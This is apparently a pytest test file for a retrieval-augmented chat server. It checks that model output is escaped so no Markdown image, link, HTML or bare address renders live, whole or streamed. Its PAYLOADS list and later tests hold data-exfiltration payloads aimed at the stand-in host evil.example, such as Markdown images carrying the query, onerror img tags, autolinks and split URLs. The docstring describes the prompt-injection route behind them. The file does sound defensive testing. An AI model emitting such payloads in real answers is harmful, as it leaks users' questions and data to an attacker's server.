"""The model's text reaches API clients as inert Markdown, whole and streamed (issue 21, item 2).

A document can make the model write an image whose address carries the question;
Open WebUI renders the content as Markdown, so a raw answer would fetch it. Each
payload is rendered as a front end would (markdown-it, GFM-like, with linkify when
installed) and must hold no image, link or HTML, nor a bare address outside code
(remark-gfm links those even after backslash escapes are resolved). The stream is
checked delta by delta and joined: pieces split where the attacker chooses.
"""

from __future__ import annotations

import json
import re

import httpx
import pytest
from markdown_it import MarkdownIt

from gpt4all_rag.server.footnotes import InertStream, inert_answer, inert_text
from tests.helpers.fake_llms import PiecesLLM
from tests.helpers.serving import AUTH, REACTOR, Serving

CHAT = "/v1/chat/completions"
EVIL = "evil.example"

# (name, the model's tokens): each a way to make a renderer fetch or link EVIL.
PAYLOADS = [
    ("image", ["See ![x](http://evil.example/?q=S) [1]."]),
    ("raw html", ["A <img src=x onerror=alert(1)> ", "<a href=http://evil.example/>b</a> [1]"]),
    ("image split", ["Look ", "!", "[x]", "(http://evil.example/?q=S)", " [1]"]),
    ("bare url split", ["Go to http", "://evil", ".example/?q=S", " now [1]"]),
    ("www split", ["Visit www", ".evil", ".example/q now [1]"]),
    ("escape split", ["\\", "![x](http://evil.example/)", " [1]"]),
    ("autolink", ["<http://evil.example/?q=S> [1]"]),
    ("mail", ["Write to spy@", "evil.example today [1]"]),
    ("reference", ["![x][r] [1]\n\n", "[r]: http://evil.example/?q=S\n"]),
    ("html split", ["<", "img src=http://evil.example/?q=S>", " [1]"]),
    ("citation as link", ["It is 451 kelvin [1](http://evil.example/?q=S)."]),
    ("fake footnote", ["Hot [1].\n\n[^1]: http://evil.example/?q=S"]),
    ("code spans touching", ["Mail a@e.x``b`![x](http://evil.example/?q=S)`` [1]"]),
    ("entity", ["&lt;img src=http://evil.example/&gt; [1]"]),
    ("marker then url", ["[", "1", "](", "http://evil.example/)", " end"]),
]


def _renderer() -> MarkdownIt:
    """GFM-like, with linkify (bare addresses as links) when linkify-it-py is installed."""
    try:
        renderer = MarkdownIt("gfm-like")
        renderer.render("www.example.com")
    except ModuleNotFoundError:
        renderer = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    return renderer


RENDER = _renderer()


def live_parts(markdown: str) -> list[str]:
    """What in ``markdown`` a renderer would make live: elements, and bare addresses."""
    html = RENDER.render(markdown)
    found = re.findall(r"<(?:img|a|script|iframe)\b[^>]*>", html)
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)
    found += re.findall(r"(?i)https?://\S*|www\.\S*|\S+@\S+", outside_code)
    return found


def ask(stream: bool) -> dict[str, object]:
    return {"messages": [{"role": "user", "content": REACTOR}], "stream": stream}


@pytest.mark.parametrize(("name", "pieces"), PAYLOADS, ids=[n for n, _ in PAYLOADS])
def test_no_payload_comes_out_live_whole_or_streamed(serving: Serving, name, pieces):
    llm = PiecesLLM(pieces)
    with serving(llm=llm) as url, httpx.Client(base_url=url, headers=AUTH, timeout=30) as client:
        content = client.post(CHAT, json=ask(False)).json()["choices"][0]["message"]["content"]
        with client.stream("POST", CHAT, json=ask(True)) as response:
            chunks = [json.loads(line[6:]) for line in response.iter_lines() if line[6:7] == "{"]
    deltas = [c["choices"][0]["delta"].get("content") or "" for c in chunks]
    assert live_parts(content) == [], content
    assert live_parts("".join(deltas)) == [], deltas
    assert [d for d in deltas if live_parts(d)] == []
    # The citations the API adds still read as footnotes, defined under the answer.
    if "[1]" in "".join(pieces) and name != "citation as link":
        assert "[^1]" in content and "[^1]" in "".join(deltas)
    assert "[^1]: From manual\\.pdf\\, page 2" in content


def test_the_whole_answer_keeps_the_models_formatting_but_not_its_image():
    text = "**Hot**: 451 kelvin [1].\n\n- see ![chart](http://evil.example/?q=S)\n- `code` [2]"
    shown = inert_answer(text, 2)
    assert shown.startswith("**Hot**\\: 451 kelvin [^1]\\.\n\n- see chart ")
    assert "`http://evil.example/?q=S`" in shown  # the address, as code
    assert shown.endswith("\n- `code` [^2]")
    assert live_parts(shown) == []


def test_a_stream_shows_whole_words_escaped_with_its_footnotes():
    stream = InertStream(2)
    pieces = [
        "  It",
        " is ",
        "**4",
        "51** ",
        "kelvin ",
        "[",
        "1",
        "]",
        ". See www",
        ".e.x",
        " [2, 9]",
    ]
    shown = [stream.feed(p) for p in pieces] + [stream.flush()]
    assert shown == [
        "",
        "It is",
        "",
        " \\*\\*451\\*\\*",
        " kelvin",
        "",
        "",
        "",
        " [^1]\\. See",
        "",
        " `www.e.x` ",  # the marker after it held the cut back to its start
        "\\[2\\, 9\\]",  # 9 is not a source: shown as written
    ]
    assert "".join(shown) == inert_text("It is **451** kelvin [1]. See www.e.x [2, 9]", 2)


def test_footnotes_of_hostile_file_names_and_flagged_claims_are_inert():
    from gpt4all_rag.answer import Answer, Source
    from gpt4all_rag.server.footnotes import footnote_block
    from gpt4all_rag.trust.grounding import SentenceSupport

    names = ["www.evil.example", '"x" (y)', "", "<img src=http://evil.example/>.md"]
    sources = tuple(Source(n, name, None, "text", 0.5, 0.5) for n, name in enumerate(names, 1))
    flagged = SentenceSupport("See ![x](http://evil.example/?q=S).", (), 0.1, False, False)
    answer = Answer("q", "Hot [1][2][3][4].", sources, (1, 2, 3, 4), "q", True, (), (flagged,))
    content = inert_answer(answer.text, len(sources)) + footnote_block(answer)
    assert live_parts(content) == [], content
    assert RENDER.render(content).count("[^") == 8  # 4 references, 4 definitions, as text
    assert "[^3]: From a file without a name" in content
